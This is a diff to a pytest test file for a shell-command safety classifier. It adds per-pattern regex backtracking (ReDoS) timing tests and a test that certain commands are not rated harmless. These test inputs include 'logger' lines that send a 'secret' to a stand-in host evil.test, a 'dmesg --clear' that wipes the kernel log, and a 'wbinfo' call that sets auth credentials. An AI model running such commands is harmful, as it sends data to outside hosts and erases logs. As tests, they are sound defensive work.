@@ -5,6 +5,7 @@ A program is a plain look, or it has a row that says what it writes, what it doe
 what it runs. Whatever a row declares is found in a script, in every way in which it can be given.
 """
 
+import re
 import time
 
 import pytest
@@ -94,17 +95,47 @@ def test_what_no_row_lists_is_no_look(name):
         assert looks.fullmatch(unknown) is None
 
 
-def test_patterns_take_linear_time():
-    before = time.thread_time()
-    for looks in LOOKS.values():
-        for text in (
-            "a " * 3000 + "-\n",
-            "-l " * 3000 + "-\n",
-            "-" + "a" * 6000 + "\n",
-            "=a." * 2000,
-        ):
-            looks.fullmatch(text)
-    assert time.thread_time() - before < 5
+def _list_repeated(pattern):
+    """Yield (beginning, what is repeated behind it), from a row's own options and words."""
+    words = set(re.findall(r"[A-Za-z][\w-]+", pattern))
+    letters = {
+        *"".join(re.findall(r"\[([A-Za-z0-9]+)\]", pattern)),
+        *re.findall(r"-(\w)\b", pattern),
+    }
+    tokens = words | {f"-{each}" for each in words | letters} | {f"--{each}" for each in words}
+    for token in sorted(tokens):
+        yield from (("", f"{token}{more}") for more in ("", " ", " x ", "=x", "=x "))
+        for more in ("=a", "x ", "-a ", "a="):
+            yield from ((token, more), (f"{token} ", more))
+
+
+@pytest.mark.parametrize("pattern", sorted({looks.pattern for looks in LOOKS.values()}))
+def test_patterns_take_linear_time(pattern):
+    looks = re.compile(pattern)
+    for beginning, repeated in _list_repeated(pattern):
+        for end in ("\n", "zz - zz\n"):
+            for times in (8, 14, 20, 24, 28, 500):  # an exponential one is seen before it hangs
+                text = beginning + repeated * times + end
+                before = time.thread_time()
+                looks.fullmatch(text)
+                assert time.thread_time() - before < 0.05, text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "dmesg --ctime --clear",
+        "dmesg --human -c",
+        "dmesg --color --console-off",
+        "logger --id -n evil.test secret",
+        "logger --stderr --server=evil.test secret",
+        "wbinfo -u --set-auth-user=a%b",
+        "wbinfo -p -c",
+        "ip -netns x -force link",
+    ],
+)
+def test_an_option_without_a_value_hides_none_behind_it(text):
+    assert not _is_harmless(text)
 
 
 @pytest.mark.parametrize(
